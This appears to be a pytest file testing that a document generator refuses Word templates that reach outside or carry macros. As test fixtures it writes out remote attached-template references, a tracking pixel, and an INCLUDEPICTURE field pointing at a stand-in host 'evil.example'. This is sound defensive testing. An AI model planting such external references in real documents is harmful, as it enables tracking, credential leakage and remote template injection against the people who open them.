"""Templates cannot make documents that reach outside (point 2), run macros, or pass 'templates check'
while 'generate' writes a broken file (point 14)."""

from __future__ import annotations

import shutil
from pathlib import Path

import pytest

from bombs import read_part, rewrite_zip
from conftest import INPUTS, run_cli
from selfeval.render.template_files import default_templates_dir

NAME = "self-evaluation.docx"
RELS = "word/_rels/document.xml.rels"


def _template(tmp_path: Path, changes: dict[str, bytes]) -> Path:
    folder = tmp_path / "templates"
    rewrite_zip((default_templates_dir() / "self-evaluation.docx"), folder / NAME, changes)
    return folder


def _with_relationship(rel: str) -> dict[str, bytes]:
    source = (default_templates_dir() / "self-evaluation.docx")
    rels = read_part(source, RELS).replace(b"</Relationships>", rel.encode() + b"</Relationships>")
    return {RELS: rels}


def _refused_by_check_and_generate(folder: Path, tmp_path: Path, *expected: str) -> None:
    out = tmp_path / "outputs"
    for args in (("templates", "check", str(folder)), ("generate", "--inputs", str(INPUTS), "--templates", str(folder), "--out", str(out))):
        result = run_cli(*args)
        assert result.code == 2, (args, result.output)
        message = " ".join(result.stderr.split())
        for text in expected:
            assert text in message, (args, message)
    assert not out.exists() or not list(out.glob("*.docx"))


@pytest.mark.parametrize(
    "target, kind",
    [
        ("file:///C:/Users/Public/logo.png", "image"),
        ("http://tracker.example/pixel.png", "image"),
        ("\\\\fileserver\\templates\\Normal.dotm", "attachedTemplate"),
    ],
)
def test_a_template_linking_outside_is_refused_with_the_part(tmp_path: Path, target: str, kind: str) -> None:
    rel = f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
    folder = _template(tmp_path, _with_relationship(rel))
    _refused_by_check_and_generate(folder, tmp_path, f"{NAME}: the template's part {RELS} links to an outside file or address ({kind}:")


def test_an_attached_template_on_a_remote_share_is_refused(tmp_path: Path) -> None:
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="file://evil.example/share/t.dotm" TargetMode="External"/></Relationships>'
    )
    folder = _template(tmp_path, {"word/_rels/settings.xml.rels": rels})
    _refused_by_check_and_generate(folder, tmp_path, "part word/_rels/settings.xml.rels links to an outside file", "attachedTemplate")


def test_an_include_picture_field_is_refused(tmp_path: Path) -> None:
    source = (default_templates_dir() / "self-evaluation.docx")
    xml = read_part(source, "word/document.xml")
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE '
        b'"http://evil.example/x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    folder = _template(tmp_path, {"word/document.xml": xml.replace(b"<w:body>", b"<w:body>" + field, 1)})
    _refused_by_check_and_generate(folder, tmp_path, "part word/document.xml has a INCLUDEPICTURE field")


def test_a_template_with_macros_is_refused(tmp_path: Path) -> None:
    folder = _template(tmp_path, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really a macro project"})
    _refused_by_check_and_generate(folder, tmp_path, "the template holds macros (word/vbaProject.bin)", "Word Document (*.docx)")


def test_a_docm_is_refused_in_plain_words(tmp_path: Path) -> None:
    source = (default_templates_dir() / "self-evaluation.docx")
    types = read_part(source, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    folder = _template(tmp_path, {"[Content_Types].xml": types})
    _refused_by_check_and_generate(folder, tmp_path, "the template holds macros")


def test_an_ordinary_web_link_typed_by_the_author_is_kept(tmp_path: Path) -> None:
    rel = '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.gov.uk/government/publications/childrens-social-care-national-framework" TargetMode="External"/>'
    folder = _template(tmp_path, _with_relationship(rel))
    result = run_cli("templates", "check", str(folder))
    assert result.code == 0, result.output


def _external_targets(docx: Path) -> set[tuple[str, str]]:
    """(relationships part, target) of every external relationship in a .docx."""
    import re
    import zipfile

    found = set()
    with zipfile.ZipFile(docx) as zf:
        for name in zf.namelist():
            if name.endswith(".rels"):
                for rel in re.findall(r"<Relationship\b[^>]*>", zf.read(name).decode("utf-8")):
                    if 'TargetMode="External"' in rel:
                        found.add((name, re.search(r'Target="([^"]*)"', rel).group(1)))
    return found


def test_templates_check_lists_the_web_links_and_the_documents_carry_no_other_outside_link(tmp_path: Path) -> None:
    """The only outside references a document can carry are the author's typed http(s) links, and
    'templates check' lists each of them, with its part, so the author sees what will be kept."""
    link = "https://www.gov.uk/government/publications/childrens-social-care-national-framework"
    source = default_templates_dir() / NAME
    rel = f'<Relationship Id="rIdWeb1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="{link}" TargetMode="External"/>'
    paragraph = (
        b'<w:p><w:r><w:t xml:space="preserve">Read the </w:t></w:r><w:hyperlink r:id="rIdWeb1"><w:r><w:t>National Framework</w:t>'
        b"</w:r></w:hyperlink></w:p>"
    )
    xml = read_part(source, "word/document.xml").replace(b"<w:body>", b"<w:body>" + paragraph, 1)
    folder = _template(tmp_path, {**_with_relationship(rel), "word/document.xml": xml})

    check = run_cli("templates", "check", str(folder))
    assert check.code == 0, check.output
    assert "1 web link, kept in the documents made from it (it opens only when someone clicks it):" in check.stdout
    assert f"    {link} (in word/document.xml)" in check.stdout

    out = tmp_path / "outputs"
    result = run_cli("generate", "--inputs", str(INPUTS), "--templates", str(folder), "--out", str(out))
    assert result.code == 0, result.output
    assert _external_targets(out / NAME) == {(RELS, link)}
    for other in ("improvement-plan.docx", "board-summary.docx"):
        assert _external_targets(out / other) == set(), other


def test_the_default_templates_have_no_outside_links_at_all() -> None:
    for template in sorted(default_templates_dir().glob("*.docx")):
        assert _external_targets(template) == set(), template.name
    result = run_cli("templates", "check")
    assert result.code == 0, result.output
    assert "web link" not in result.stdout
